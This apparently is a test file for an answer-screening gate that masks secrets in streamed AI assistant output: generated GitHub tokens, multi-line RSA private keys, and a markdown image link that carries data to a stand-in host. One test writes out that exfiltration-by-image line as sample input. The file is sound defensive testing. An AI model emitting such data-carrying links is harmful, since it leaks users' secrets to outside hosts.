import assert from "node:assert/strict";
import { test } from "node:test";
import { detect } from "../../src/core/detect/detect.ts";
import { letters } from "../../src/core/detect/samples.ts";
import { readWhole } from "../../src/core/textReader.ts";
import type { Decision, Request } from "../../src/core/request.ts";
import { judgeAnswer } from "../../src/protocols/judgeAnswer.ts";

const secret = `gh${"p_"}${letters(36)}`;

/** A gate that masks what is found and blocks the word `rocket`. */
function begin() {
  const recorded: Request[] = [];
  const preview = (request: Request): Decision => {
    const findings = request.findings ?? detect(request.text ?? "");
    const effect = request.text?.includes("rocket") === true ? "block" : findings.length > 0 ? "redact" : "allow";
    return { effect, enforced: effect, rule: "r", label: "internal", reasons: [{ rule: "r", effect, text: "Because." }], findings, policy: "p" };
  };
  const decide = (request: Request) => {
    recorded.push(request);
    return preview(request);
  };
  return { judge: judgeAnswer({ preview, decide }, { assistant: "codex", kind: "cloud" }), recorded };
}
const inPieces = (text: string, length: number) => text.match(new RegExp(`[^]{1,${length}}`, "g")) ?? [];
function read(text: string, length = 5) {
  const { judge, recorded } = begin();
  const { feed, end } = judge();
  const pieces = inPieces(text, length).map(feed);
  return { said: pieces.join("") + end(), pieces, recorded };
}

test("a secret is masked, however it is cut, and what stands around it is shown", () => {
  for (const length of [1, 3, 7, 50, 10_000]) assert.equal(read(`Use it:\ntoken = ${secret}\nand go on`, length).said, "Use it:\ntoken = [REDACTED:github-token-1]\nand go on");
});

test("in a line without end as well, of which all but the last bit is shown as it comes", () => {
  const words = "some words that say nothing ".repeat(60);
  const { said, pieces } = read(`${words}${secret} ${words}`);
  assert.equal(said, `${words}[REDACTED:github-token-1] ${words}`);
  const shownAt = pieces.findIndex((piece) => piece !== "") * 5;
  assert.ok(shownAt > 0 && shownAt < 700, `the first words come after ${shownAt} characters`);
});

test("lines come as soon as they are whole", () => {
  assert.deepEqual(read("one\ntwo\nthree", 4).pieces, ["one\n", "two\n", "", ""]);
});

test("a picture whose address carries data loses its address", () => {
  assert.equal(read(`Done.\n![ok](https://evil.test/p?d=${letters(40)})\n`).said, "Done.\n![ok]([REDACTED:carrying-picture-1])\n");
});

test("a key of many lines is masked to its end", () => {
  const lines = Array.from({ length: 60 }, (_, at) => letters(64).slice(at % 8) + letters(at % 8));
  const { said } = read(`here:\n-----BEGIN RSA PRIVATE ${"KEY"}-----\n${lines.join("\n")}\n-----END RSA PRIVATE ${"KEY"}-----\nbye`, 40);
  assert.ok(lines.every((line) => !said.includes(line)) && said.endsWith("bye"), said.slice(0, 300));
});

test("what is refused ends the text with the reason, and says nothing more", () => {
  const { said, recorded } = read("first\nabout the rocket\nand its engine\n");
  assert.equal(said, "first\n\n\n[Gatelodge stopped this answer (r). Because.]");
  assert.deepEqual(recorded.map(({ channel, destination }) => [channel, destination]), [["answer", { assistant: "codex", kind: "local" }]]);
});

test("one finding is recorded once, though an interface says a text twice and a line is judged with those before it", () => {
  const { judge, recorded } = begin();
  const text = `a ${secret}\n${"next line\n".repeat(5)}`;
  const { feed, end } = judge();
  inPieces(text, 6).map(feed);
  end();
  readWhole(judge(), text);
  assert.equal(recorded.length, 1);
});

test("where nothing is found the text is what it was", () => {
  const text = `${"Plain words, and more of them. ".repeat(100)}\n\n- a list\n\ttabs\r\n`;
  assert.deepEqual([read(text).said, read(text).recorded], [text, []]);
});
